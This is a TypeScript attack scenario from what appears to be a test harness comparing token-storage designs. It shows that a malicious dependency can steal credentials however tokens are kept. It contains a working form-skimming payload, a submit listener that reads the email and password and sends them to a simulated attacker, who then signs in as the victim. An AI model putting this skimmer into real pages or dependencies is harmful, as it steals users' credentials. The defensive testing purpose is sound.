// Threat: a malicious dependency is there when the person signs in, and reads the password from the form. Expected: no way of keeping a
// token helps, because the token is not what is stolen.
import { stopped, succeeded, type Attack } from '../attack.ts'
import { told } from '../scene.ts'
import { awaitLoot, fruitless, scriptReport } from './loot.ts'
import type { Payload } from '../world/payload.ts'

const script: Payload = (kit) => {
  addEventListener(
    'submit',
    ({ target }) => {
      const { elements } = target as HTMLFormElement
      kit.take('email', (elements.namedItem('email') as HTMLInputElement | null)?.value)
      kit.take('password', (elements.namedItem('password') as HTMLInputElement | null)?.value)
      setTimeout(() => void kit.flush(), 1)
    },
    true,
  )
}

export const earlyPassword: Attack = {
  name: 'early-password',
  group: 'script, early',
  title: 'Reads the password as it is typed',
  what: 'The dependency listens to the sign-in form and sends e-mail and password to the attacker, who signs in with them.',
  why: 'A password is a secret that can be copied. Whoever has it is the person, until it is changed.',
  stops: 'A second factor or a passkey, which cannot be typed. None of the targets has one.',
  script: { when: 'early', payload: script },
  control: 'session',
  succeedsOn: [
    'session',
    'local-storage',
    'session-storage',
    'readable-cookie',
    'httponly-cookie',
    'variable',
    'tutorial',
    'hallpass',
    'hallpass-bound',
    'hallpass-worker',
    'hallpass-strict',
  ],
  async run(scene) {
    scene.injectEarly(script)
    const page = await scene.open()
    await told(page, 'ready')
    const installed = await scriptReport(scene)
    const signing = scene.signIn(page).catch(() => undefined)
    const report = await awaitLoot(scene, 'password', 8_000)
    await Promise.race([signing, page.waitForURL(/evil/).catch(() => undefined)])
    if (!report.kinds.includes('password'))
      return stopped(fruitless(scene, { ...report, ran: installed.ran }, 'saw no password'))
    const { status } = await scene.signInOutside('«email»', '«password»')
    if (status === 200 && scene.target.access !== 'bearer' && scene.target.name === 'readable-cookie')
      await scene.thief.useCookie(scene.target.access.cookie, 'token')
    const { asVictim } = await scene.useJar()
    return asVictim
      ? succeeded('the attacker signed in on another machine with the password, and the API answered 200 as the victim')
      : stopped(`the password was read, and signing in with it answered ${status}`)
  },
}
